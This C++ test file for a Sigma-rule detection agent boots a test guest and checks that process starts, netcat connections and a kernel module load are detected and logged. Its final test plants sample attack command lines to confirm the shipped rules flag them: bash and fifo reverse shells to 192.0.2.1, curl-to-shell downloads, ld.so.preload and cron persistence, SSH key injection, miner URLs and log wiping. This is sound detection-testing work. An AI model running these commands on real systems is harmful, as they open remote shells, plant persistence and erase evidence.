// Sigma rules over a real guest: what is started, connected and loaded in it is told, by way of the
// agent and without one, and a clean guest is clean.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <signal.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <set>

#include "testing/test_agent.h"

namespace underseer::testing {
namespace {

using RuleNames = std::set<std::string>;

std::string text(const json::Value& value, std::string_view key) {
    return value.at(key).value().as_string().value();
}

class EventRules : public ::testing::Test {
  protected:
    static void SetUpTestSuite() {
        auto booted = TestVm::boot({.kernel = "6.1-cloud"});
        if (booted.has_value()) vm_.emplace(std::move(*booted));
    }
    static void TearDownTestSuite() { vm_.reset(); }
    void SetUp() override {
        if (!vm_)
            GTEST_SKIP() << "the kernel 6.1-cloud is not at hand; tools/guests/make.py makes it";
        std::string made = std::filesystem::temp_directory_path() / "underseer-rules.XXXXXX";
        ASSERT_NE(::mkdtemp(made.data()), nullptr);
        folder_ = made;
    }
    void TearDown() override {
        if (vm_) (void)vm_->run("killall sleep nc; rm -f /dev/shm/sleep; rmmod underseer_hide");
        std::filesystem::remove_all(folder_);
    }

    void write_rule(const std::string& name, std::string_view category,
                    std::string_view selection) const {
        std::ofstream(folder_ / (name + ".yml"))
            << "title: " << name << "\nlogsource:\n  product: linux\n  category: " << category
            << "\ndetection:\n  selection:\n    " << selection
            << "\n  condition: selection\nlevel: high\n";
    }
    std::string policy(const std::string& more = {}) const {
        return fmt::format(
            "[schedule]\nevent_rules = \"1s\"\ncpu_percent = 100\n[instances]\n"
            "only = [\"name:{}\"]\n[rules]\nsigma = [\"{}\"]\n{}",
            vm_->name(), folder_.native(), more);
    }
    // Starts it in the guest, and lets it stay.
    static std::string start(const std::string& command) {
        std::string pid = vm_->output_of(command + " > /dev/null 2>&1 < /dev/null & echo $!");
        while (!pid.empty() && pid.back() == '\n') pid.pop_back();
        return pid;
    }
    // What the rules of a folder say, without an agent: those that are more than informational.
    static RuleNames checked(const std::filesystem::path& rules, std::string* outcome = nullptr) {
        const RunResult ran =
            run_program({program_path("underseer"), "check", vm_->name(), "--direct", "--json",
                         "--only", "event_rules", "--rules", rules});
        const auto reports = json::Value::parse(ran.output);
        EXPECT_TRUE(reports.has_value()) << ran.output;
        RuleNames found;
        if (!reports.has_value()) return found;
        const json::Value report = reports->elements().value().at(0);
        if (outcome != nullptr) *outcome = text(report, "outcome");
        const auto findings = report.at("findings").value().elements().value();
        for (const json::Value& finding : findings) {
            if (text(finding, "severity") != "informational") found.insert(text(finding, "rule"));
        }
        return found;
    }

    static std::optional<TestVm> vm_;
    std::filesystem::path folder_;
};
std::optional<TestVm> EventRules::vm_;

TEST_F(EventRules, tell_of_a_process_by_way_of_the_agent_for_as_long_as_it_runs) {
    write_rule("sleeper", "process_creation", "CommandLine: sleep 4321");
    write_rule("wrong", "process_creation", "Hashes: 4321");
    TestAgent agent(policy());
    agent.start();
    agent.wait_until("it is looked at", [&] {
        const auto status = agent.instance(vm_->name());
        return status && text(*status, "state") == "watched";
    });
    const json::Value status = agent.status();
    const json::Value told = status.at("agent").value();
    EXPECT_EQ(told.at("rules").value().as_uint().value(), 1u);
    const json::Value refused = told.at("refused_rules").value().elements().value().at(0);
    EXPECT_EQ(text(refused, "file"), folder_ / "wrong.yml");
    EXPECT_EQ(refused.at("line").value().as_uint().value(), 7u);
    EXPECT_EQ(agent.logged("a rule is not used").size(), 1u);

    const std::string pid = start("sleep 4321");
    const json::Value open = agent.wait_for_finding("sigma:sleeper");
    EXPECT_EQ(text(open.at("finding").value(), "subject"), fmt::format("sleep (pid {})", pid));
    EXPECT_EQ(agent.cli({"findings"}).status, 1);
    // One that a process has become, and that nobody has seen begin.
    const std::string other = start("sh -c 'sleep 3; exec sleep 4321'");
    agent.wait_until("the second is found",
                     [&] { return agent.findings("sigma:sleeper").size() == 2; });
    vm_->output_of(fmt::format("kill {} {}", pid, other));
    agent.wait_until("both are closed", [&] { return agent.findings("sigma:sleeper").empty(); });

    // A rule that comes later holds for what is there already; policy names it by a pattern.
    (void)start("sleep 4322");
    write_rule("later", "process_creation", "CommandLine: sleep 4322");
    agent.write_policy(
        policy("[[suppress]]\nrule = \"sigma:l*\"\nreason = \"a test\"\n"
               "until = 2099-01-01\n"));
    agent.signal(SIGHUP);
    agent.wait_for_finding("sigma:later");
    const auto logged = agent.logged("later");
    ASSERT_FALSE(logged.empty());
    EXPECT_FALSE(logged[0].at("is_alert").value().as_bool().value());
    // And one that is taken away tells of nothing any more.
    std::filesystem::remove(folder_ / "later.yml");
    agent.signal(SIGHUP);
    agent.wait_until("it is closed", [&] { return agent.findings("sigma:later").empty(); });
    EXPECT_EQ(agent.kill(SIGTERM), 0);
}

// [[monitor]] events: each is logged once, with no rule at all, and what was there before is not.
TEST_F(EventRules, or_none_and_what_happens_is_logged_where_policy_wants_it) {
    const std::string before = start("sleep 4330");
    TestAgent agent(
        policy(fmt::format("[[monitor]]\ninstance = \"name:{}\"\n"
                           "events = [\"process_start\", \"connection\", \"module_load\"]\n"
                           "[[inspect]]\ninstance = \"kernel:6.1.*\"\nkernel_modules = \"off\"\n",
                           vm_->name())));
    agent.start();
    agent.wait_until("it is looked at", [&] {
        const auto status = agent.instance(vm_->name());
        return status && text(*status, "state") == "watched";
    });
    const auto check_of = [&](std::string_view name) -> std::optional<json::Value> {
        const auto each = agent.instance(vm_->name())->at("each").value().elements().value();
        for (const json::Value& one : each) {
            if (text(one, "check") == name) return one;
        }
        return std::nullopt;
    };
    agent.wait_until("it has looked", [&] {
        const auto check = check_of("event_rules");
        return check && check->at("made").value().as_uint().value() >= 2;
    });
    agent.wait_until("what policy says of its kernel holds",
                     [&] { return !check_of("kernel_modules"); });
    const std::string kernel = text(agent.instance(vm_->name())->at("instance").value(), "kernel");
    EXPECT_EQ(kernel.substr(0, 4), "6.1.");

    const std::string pid = start("sleep 4331");
    (void)start("sh -c 'sleep 900 | nc -l -p 4446'");
    (void)start("sh -c 'sleep 1; sleep 900 | nc 127.0.0.1 4446'");
    vm_->output_of("insmod /lib/modules/underseer_hide.ko");
    std::vector<json::Value> launched, connected, loaded;
    agent.wait_until("all of it is logged", [&] {
        launched.clear(), connected.clear(), loaded.clear();
        for (const json::Value& event : agent.logged_in_bulk()) {
            const auto type = event.at("class_uid").value().as_uint().value();
            if (type == 1007) launched.push_back(event);
            if (type == 4001) connected.push_back(event);
            if (type == 1002) loaded.push_back(event);
        }
        return launched.size() >= 3 && connected.size() >= 2 && !loaded.empty();
    });
    std::multiset<std::string> commands;
    for (const json::Value& event : launched) {
        const json::Value process = event.at("process").value();
        commands.insert(text(process, "cmd_line"));
        if (text(process, "cmd_line") != "sleep 4331") continue;
        EXPECT_EQ(std::to_string(process.at("pid").value().as_uint().value()), pid);
        EXPECT_EQ(text(event.at("device").value().at("os").value(), "kernel_release"), kernel);
    }
    EXPECT_EQ(commands.count("sleep 4331"), 1u);
    EXPECT_EQ(commands.count("sleep 4330"), 0u) << "it was there before, as pid " << before;
    bool is_client = false;
    for (const json::Value& event : connected) {
        is_client |= event.at("dst_endpoint").value().at("port").value().as_uint().value() == 4446;
    }
    EXPECT_TRUE(is_client);
    EXPECT_EQ(text(loaded[0].at("driver").value().at("file").value(), "name"), "underseer_hide");
}

TEST_F(EventRules, tell_of_connections_and_modules) {
    write_rule("to_port", "network_connection",
               "DestinationPort: 4445\n    DestinationIp|cidr: 127.0.0.0/8\n    Initiated: 'true'\n"
               "    Comm: nc");
    write_rule("of_port", "network_connection",
               "SourcePort: 4445\n    Initiated: 'false'\n    Comm: nc");
    write_rule("module", "driver_load", "ImageLoaded: underseer_hide");
    EXPECT_EQ(checked(folder_), RuleNames{});
    (void)start("sh -c 'sleep 900 | nc -l -p 4445'");
    (void)start("sh -c 'sleep 1; sleep 900 | nc 127.0.0.1 4445'");
    vm_->output_of("sleep 3; insmod /lib/modules/underseer_hide.ko");
    // The server listens no more once it has a client: then nobody knows who began.
    const RuleNames found = checked(folder_);
    EXPECT_TRUE(found.contains("sigma:to_port"));
    EXPECT_TRUE(found.contains("sigma:module"));
}

// Nor is a guest clean by rules of which none is used.
TEST_F(EventRules, that_are_named_and_cannot_be_used_are_an_error) {
    write_rule("wrong", "process_creation", "Hashes: 4321");
    const auto run = [](std::vector<std::string> arguments) {
        arguments.insert(arguments.begin(), program_path("underseer"));
        return run_program(arguments);
    };
    const RunResult checked = run(
        {"check", vm_->name(), "--direct", "--only", "event_rules", "--rules", folder_.native()});
    EXPECT_NE(checked.status, 0);
    EXPECT_NE(checked.output.find("none of the rules that --rules names"), std::string::npos)
        << checked.output;
    const RunResult listed = run({"rules", "ls", "--policy", folder_ / "none.toml"});
    EXPECT_NE(listed.status, 0);
    EXPECT_NE(listed.output.find("none.toml"), std::string::npos) << listed.output;
}

// What comes with the package: nothing of a clean guest, and of each of these what it is for.
TEST_F(EventRules, that_are_shipped_know_a_clean_guest_from_one_that_is_not) {
    const std::filesystem::path shipped = UNDERSEER_RULES;
    std::string outcome;
    EXPECT_EQ(checked(shipped, &outcome), RuleNames{});
    EXPECT_NE(outcome, "unavailable");
    const auto stays = [](const std::string& script) {
        (void)start("sh -c 'sleep 900; " + script + "'");
    };
    stays("sh -i >& /dev/tcp/192.0.2.1/443 0>&1");
    stays("curl -s http://192.0.2.1/x | sh");
    stays("echo aWQ= | base64 -d | sh");
    stays("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 443 > /tmp/f");
    stays("unset HISTFILE");
    stays("echo /tmp/x.so >> /etc/ld.so.preload");
    stays("echo \"* * * * * curl 192.0.2.1\" | crontab -");
    stays("echo key >> /root/.ssh/authorized_keys");
    stays("id; uname -a; cat /etc/passwd");
    stays("./x -o stratum+tcp://192.0.2.1:3333");
    stays(": > /var/log/wtmp");
    (void)start("nc -l -p 4446");
    vm_->output_of("cp /bin/busybox /dev/shm/sleep");
    (void)start("/dev/shm/sleep 900");
    vm_->output_of("sleep 2");
    EXPECT_EQ(
        checked(shipped),
        (RuleNames{"sigma:reverse_shell_bash", "sigma:download_into_shell",
                   "sigma:decoded_into_shell", "sigma:reverse_shell_fifo",
                   "sigma:history_tampering", "sigma:preload_for_all_programs",
                   "sigma:download_in_cron", "sigma:key_for_ssh_added", "sigma:who_am_i_where_am_i",
                   "sigma:miner_command_line", "sigma:log_wiping", "sigma:netcat_listener",
                   "sigma:program_from_shared_memory"}));
}

}  // namespace
}  // namespace underseer::testing
